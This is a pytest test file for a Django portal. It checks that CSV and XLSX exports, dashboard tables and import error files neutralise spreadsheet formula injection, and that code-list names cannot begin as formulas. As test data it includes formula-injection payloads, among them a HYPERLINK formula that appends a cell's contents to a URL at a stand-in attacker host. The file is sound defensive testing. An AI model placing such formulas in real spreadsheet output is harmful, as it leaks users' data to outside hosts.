"""No file the portal writes for a spreadsheet carries a live formula (issue 14): exports, dashboard
tables, import error files, header rows included; and code-list names cannot start as one."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse

from childcare.models import ActivityKind
from dashboards.services import figures_refresh
from desmigratif.exports import csv_write, escape_formula, xlsx_workbook
from enterprises.models import Category
from households.imports.errors import error_file_csv, error_file_xlsx
from households.models import Job, PlacementAgency
from tests.households.imports import check, excel_csv

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("code_lists")]

LIVE = ['=HYPERLINK("http://evil.example/?"&A1,"Klik")', "+62812", "-1+1", "@SUM(A1)", "\t=1", "＝1+1"]  # noqa: RUF001


@pytest.mark.parametrize("text", LIVE)
def test_every_formula_start_is_made_inert(text):
    assert escape_formula(text) == "'" + text
    buffer = io.StringIO()
    csv_write(buffer, [[text], [text, 5]])
    assert all(row[0] == "'" + text for row in csv.reader(io.StringIO(buffer.getvalue())))
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_workbook({"Data": [[text], [text, 5]]}))).active
    assert [cell.data_type for cell in sheet["A"]] == ["s", "s"] and sheet["A1"].value == text
    assert sheet["B2"].value == 5 and sheet["B2"].data_type == "n"


def test_a_dashboard_table_escapes_a_category_named_as_a_formula(client, programme, analyst):
    Category.objects.filter(code="food").update(name=LIVE[0])  # as stored before names were checked
    figures_refresh()
    client.force_login(analyst)
    body = client.get(reverse("dashboards:national-csv", args=["enterprise-category"])).content.decode()
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
    assert ["'" + LIVE[0]] == [row[0] for row in rows if row and "HYPERLINK" in row[0]]
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)


def test_the_import_error_file_escapes_its_header_row(officer_a):
    header = ["No. KK", '=HYPERLINK("http://evil.example","x")', "NIK", "Nama"]
    batch = check(officer_a, excel_csv([header, ["123", "a", "1", "Siti"]]))
    rows = list(csv.reader(io.StringIO(error_file_csv(batch).decode("utf-8-sig")), delimiter=";"))
    assert not any(cell.startswith("=") for row in rows for cell in row)
    sheet = openpyxl.load_workbook(io.BytesIO(error_file_xlsx(batch))).active
    assert all(cell.data_type == "s" for row in sheet.iter_rows() for cell in row)


@pytest.mark.parametrize("model", [Job, PlacementAgency, ActivityKind, Category])
def test_a_code_list_name_cannot_start_as_a_formula(model):
    extra = {"code": "x"} if model is not PlacementAgency else {}
    with pytest.raises(ValidationError) as refused:
        model(name='=HYPERLINK("http://x")', **extra).full_clean()
    assert "name" in refused.value.message_dict
    model(name="Pekerja rumah tangga", **extra).full_clean()
